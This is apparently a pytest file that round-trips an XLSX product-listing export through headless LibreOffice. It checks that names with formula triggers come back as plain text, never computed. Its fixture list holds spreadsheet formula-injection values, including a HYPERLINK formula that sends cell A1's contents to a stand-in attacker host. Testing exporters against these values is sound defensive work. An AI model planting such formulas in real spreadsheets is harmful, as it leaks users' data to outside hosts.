"""A workbook as a spreadsheet reads it: LibreOffice opens it, shows what was meant, and computes nothing."""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from storebot.core.export.columns import chosen
from storebot.exports.formats.xlsx import XLSX

OFFICE = shutil.which("soffice")
UTF_8 = "csv:Text - txt - csv (StarCalc):44,34,76"  # comma, quote, UTF-8
NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "@SUM(1+1)",
    "+1+1",
    "=1+1",
    'Box 12" ; red\nline2 😀',
    "שלום עולם",
    "_x0041_ part",
    "é" * 32_767,
]


@pytest.mark.skipif(not OFFICE, reason="LibreOffice (soffice) isn't installed here")
def test_libreoffice_reads_what_was_meant(tmp_path: Path) -> None:
    columns = chosen("listings", ["name", "sku", "price", "last_seen_at", "url"])
    seen, url = datetime(2026, 11, 30, 8, 0, 5, tzinfo=UTC), "https://shop.example/p/_x0042_"
    common = {"sku": "00012", "price": Decimal("1234.50"), "last_seen_at": seen, "url": url}
    book = XLSX(tmp_path / "book.xlsx", "listings", columns)
    book.write([{"name": name, **common} for name in NAMES])
    book.close()
    assert OFFICE
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    argv = [
        OFFICE,
        profile,
        "--headless",
        "--convert-to",
        UTF_8,
        "--outdir",
        str(tmp_path),
        str(tmp_path / "book.xlsx"),
    ]
    subprocess.run(argv, check=True, timeout=120, capture_output=True)
    with (tmp_path / "book.csv").open(encoding="utf-8", newline="") as file:
        head, *rows = csv.reader(file)
    assert head == ["name", "sku", "price", "last_seen_at (UTC)", "url"]
    assert [row[0] for row in rows] == NAMES
    assert {tuple(row[1:]) for row in rows} == {("00012", "1,234.50", "2026-11-30 08:00:05", url)}
